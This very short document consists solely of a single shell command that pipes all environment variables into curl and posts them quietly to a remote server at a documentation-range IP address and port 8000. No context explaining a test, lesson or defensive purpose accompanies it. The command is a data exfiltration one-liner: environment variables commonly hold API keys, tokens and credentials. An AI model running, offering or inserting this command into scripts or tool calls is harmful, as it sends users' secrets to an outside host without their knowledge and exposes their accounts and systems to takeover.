env | curl -s -d @- http://198.51.100.99:8000/
